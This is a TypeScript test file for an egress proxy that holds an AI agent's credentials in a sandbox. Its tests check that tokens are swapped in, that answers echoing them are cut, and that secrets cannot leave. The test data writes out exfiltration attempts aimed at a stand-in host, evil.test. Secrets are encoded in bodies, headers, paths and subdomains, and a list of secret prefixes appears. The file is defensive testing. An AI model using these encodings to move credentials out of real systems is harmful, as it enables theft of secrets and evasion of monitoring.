/**
 * Promises 2 and 3: the agent never holds a real token, and secrets do not leave. Attacks of egress.md, section 7, rows
 * 29–36, from inside a real bottle.
 *
 * Elsewhere: every disguise and every shape on the scanner alone in `docker/bundle/scan/scan.test.ts`; what another user
 * of the bundle reads of egress (33) in `docker/bundle/bundle.docker.test.ts`.
 */
import { randomBytes } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import path from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { engineAbsent, TestHome } from '../../backends/docker/testing/test-home.ts'
import { BottleWorld, mintWorldCa } from './bottle-world.ts'
import { Made } from './made.ts'
import { route } from './route.ts'
import { Side } from './side.ts'

const TOKEN = `real-${randomBytes(24).toString('hex')}`
const SECRET = `s3cr3t-${randomBytes(18).toString('base64url')}`
const GITHUB = `ghp_${randomBytes(18).toString('hex')}`
const absent = await engineAbsent()

const b64 = (text: string) => Buffer.from(text).toString('base64')
const percent = (text: string) => [...text].map((char) => `%${char.charCodeAt(0).toString(16)}`).join('')
const latin1 = (bytes: Buffer) => bytes.toString('latin1')

describe.skipIf(absent)(`from inside a bottle${absent ? ` (skipped: ${absent})` : ''}`, () => {
  const made = new Made()
  let world: BottleWorld
  let origin: Side
  let evil: Side
  let canary: string

  beforeAll(async () => {
    const ca = await mintWorldCa()
    origin = made.use(await Side.open(ca, ['origin.test', 'narrow.test']))
    evil = made.use(await Side.open(ca, ['evil.test']))
    const home = made.use(await TestHome.create())
    world = made.use(await BottleWorld.launch(home, { ca, origin, evil, tokens: { API: TOKEN, OTHER: SECRET } }))
    canary = await world.canary()
    const auth = { scheme: 'Bearer', header: 'authorization', slot: 'API' } as const
    const scan = { outbound: ['token_patterns', 'known_secrets'], inbound: false, onMatch: 'block' } as const
    await world.routes(
      [
        route('origin.test', { ports: [origin.port], auth, scan: { ...scan, outbound: [...scan.outbound] } }),
        route('narrow.test', {
          ports: [origin.port],
          auth,
          matches: [{ paths: [{ type: 'prefix', value: '/v1/messages' }], methods: ['POST'] }],
        }),
      ],
      ['origin.test', 'narrow.test', 'evil.test'],
    )
  })
  afterAll(() => made[Symbol.asyncDispose]())
  afterEach(() => {
    origin.forget()
    origin.answer = (_request, response) => void response.end('ok')
  })

  const sent = (rawHeaders: readonly string[], name: string) =>
    rawHeaders.filter((_, i) => i % 2 === 1 && rawHeaders[i - 1]!.toLowerCase() === name)

  test.each<[promise: string, headers: string[]]>([
    ['alone', ['Authorization: Bearer mine']],
    ['twice', ['Authorization: Bearer mine', 'authorization: Basic mine']],
    ['named by Connection', ['Authorization: Bearer mine', 'Connection: authorization']],
    ['as a key, a cookie and for the proxy', ['X-Api-Key: mine', 'Cookie: a=mine', 'Proxy-Authorization: mine']],
  ])('29 a credential that the agent sends %s goes no further; ours does', async (_, headers) => {
    const { reply, arrived, audit } = await world.attack(world.request('origin.test', 'GET /', headers))
    expect(reply).toMatch(/^HTTP\/1.1 200 /)
    expect(sent(arrived[0]!.rawHeaders, 'authorization')).toEqual([`Bearer ${TOKEN}`])
    expect(JSON.stringify(arrived)).not.toContain('mine')
    expect(audit).toMatchObject([{ outcome: 'allowed', slot: 'API' }])
  })
  test('29 nor does one in a trailer', async () => {
    const to = `origin.test:${origin.port}`
    const send = `POST / HTTP/1.1\r\nHost: ${to}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\nTrailer: Authorization\r\n\r\n2\r\nhi\r\n0\r\nAuthorization: Bearer mine\r\n\r\n`
    const { arrived } = await world.attack({ kind: 'tunnel', to, send })
    expect(arrived).toMatchObject([{ body: 'hi' }])
    expect(JSON.stringify(arrived)).not.toContain('mine')
  })

  test.each<[promise: string, echo: (token: string) => { headers?: Record<string, string>; body: string }]>([
    ['in its body', (token) => ({ body: `<${token}>` })],
    ['in base64', (token) => ({ body: b64(token) })],
    ['in hex', (token) => ({ body: Buffer.from(token).toString('hex') })],
    ['in a header', (token) => ({ headers: { 'x-echo': token }, body: '' })],
    ['in a redirect', (token) => ({ headers: { location: `https://evil.test/${token}` }, body: '' })],
    ['compressed', (token) => ({ headers: { 'content-encoding': 'gzip' }, body: latin1(gzipSync(token)) })],
  ])('30 an answer with the token %s is cut', async (_, echo) => {
    origin.answer = (request, response) => {
      if (request.url?.startsWith('/control')) return void response.end('ok')
      const { headers = {}, body } = echo(TOKEN)
      response.writeHead(200, headers).end(Buffer.from(body, 'latin1'))
    }
    const { reply, arrived, audit } = await world.attack(world.request('origin.test', 'GET /echo'))
    expect(arrived).toHaveLength(1)
    expect(reply).not.toContain(TOKEN)
    expect(reply).not.toContain(b64(TOKEN).slice(0, 40))
    expect(audit).toMatchObject([{ outcome: 'refused' }])
  })

  test('33 the bottle has the certificate of its authority, and no key', async () => {
    const key = await readFile(path.join(world.state, 'egress-ca/ca.key'), 'utf8')
    const line = key.split('\n')[1]!
    expect(await world.placesOf(line)).toEqual(['files of the home'])
    expect((await world.sh('grep -c "BEGIN CERT" /etc/bot-bottle/ca.pem')).stdout.trim()).toBe('1')
  })

  test.each<[promise: string, method: string, target: string]>([
    ['another path', 'POST', '/v1/organizations/keys'],
    ['another method', 'DELETE', '/v1/messages/1'],
    ['a look-alike path', 'POST', '/v1/messagesx'],
  ])('34 the token is not used for %s of an allowed host', async (_, method, target) => {
    const { reply, arrived, audit } = await world.attack(world.request('narrow.test', `${method} ${target}`))
    expect(reply).toMatch(/^HTTP\/1.1 403 /)
    expect(arrived).toEqual([])
    expect(audit).toMatchObject([{ outcome: 'refused', rule: 'no-match' }])
    expect(audit[0]?.slot).toBeUndefined()
  })
  test('34 where it is meant to be used, it is', async () => {
    const { arrived } = await world.attack(world.request('narrow.test', 'POST /v1/messages'))
    expect(sent(arrived[0]!.rawHeaders, 'authorization')).toEqual([`Bearer ${TOKEN}`])
  })

  const disguises: [name: string, of: (value: string) => string][] = [
    ['plain', (value) => value],
    ['JSON', (value) => JSON.stringify({ a: [value] })],
    ['base64', b64],
    ['base64url', (value) => Buffer.from(`x${value}`).toString('base64url')],
    ['base64 twice', (value) => b64(b64(value))],
    ['percent', percent],
    ['hex', (value) => Buffer.from(value).toString('hex')],
  ]
  const multipart = (value: string) =>
    `--b\r\nContent-Disposition: form-data; name="f"; filename="${value}"\r\n\r\nhello\r\n--b--\r\n`

  describe.each<[name: string, value: () => string]>([
    ['a token of the bottle', () => TOKEN],
    ['a secret of another route', () => SECRET],
    ['the canary', () => canary],
    ['a token known by its shape', () => GITHUB],
  ])('35 %s does not leave', (_, value) => {
    const all = () => disguises.map(([, of]) => of(value()))
    const stopped = async (acts: Parameters<BottleWorld['attack']>) => {
      const { replies, arrived, audit } = await world.attack(...acts)
      expect(arrived.map(({ url, body }) => `${url} ${body}`)).toEqual([])
      expect(replies.map((reply) => /^HTTP\/1.1 403 .*secret-outbound/s.test(reply))).toEqual(acts.map(() => true))
      expect(audit.map(({ rule }) => rule)).toEqual(acts.map(() => 'secret-outbound'))
      expect(JSON.stringify(audit)).not.toContain(value())
    }
    const post = (body: string, headers: string[] = []) => world.request('origin.test', 'POST /', headers, body)

    test('in a body, however it is written', () =>
      stopped([
        ...all().map((text) => post(`note=${text}&z=1`)),
        post(multipart(value()), ['Content-Type: multipart/form-data; boundary=b']),
        post(latin1(gzipSync(value())), ['Content-Encoding: gzip']),
      ]))
    test('in a path or a query', () =>
      stopped([
        ...all().map((text) => world.request('origin.test', `GET /?q=${encodeURIComponent(text)}`)),
        world.request('origin.test', `GET /x/${value()}/y`),
      ]))
    test('in a header, by value or by name', () =>
      stopped([
        ...all().map((text) => world.request('origin.test', 'GET /', [`X-Note: ${text}`])),
        world.request('origin.test', 'GET /', [`X-${value()}: 1`]),
      ]))
  })

  test('35 a secret in the name of a host is refused, and told without it', async () => {
    const names = [SECRET.toLowerCase(), Buffer.from(SECRET).toString('hex')]
    const { audit } = await world.attack(
      ...names.map((name) => ({ kind: 'tunnel', to: `${name.slice(0, 60)}.evil.test:443`, send: '' }) as const),
      world.request('narrow.test', `POST /x/${TOKEN}`),
    )
    expect(audit.map(({ rule }) => rule).sort()).toEqual(['no-match', 'not-listed', 'not-listed'])
  })
  test('35 what only looks like a secret does leave', async () => {
    const { replies } = await world.attack(
      world.request('origin.test', 'POST /', [], 'real-estate s3cr3t ghp_ bbk_ sk-ant- AKIA'),
      world.request('origin.test', 'POST /', [], randomBytes(600).toString('base64')),
    )
    expect(replies.map((reply) => reply.slice(0, 12))).toEqual(['HTTP/1.1 200', 'HTTP/1.1 200'])
  })
  test('36 a piece of twelve characters is enough; less than that is known not to be seen', async () => {
    const pieces = [canary.slice(6, 20), canary.slice(18, 34), canary.slice(6, 14)]
    const { replies } = await world.attack(
      ...pieces.map((piece) => world.request('origin.test', 'POST /', [], `part=${piece}`)),
    )
    expect(replies.map((reply) => reply.slice(9, 12))).toEqual(['403', '403', '200'])
  })
  test('31, 32 neither token is in the bottle, nor in anything that it leaves behind', async () => {
    expect((await world.placesOf(canary)).length, 'the control: what is there is found').toBeGreaterThan(1)
    expect(await world.placesOf(TOKEN)).toEqual([])
    expect(await world.placesOf(SECRET)).toEqual([])
  })
})
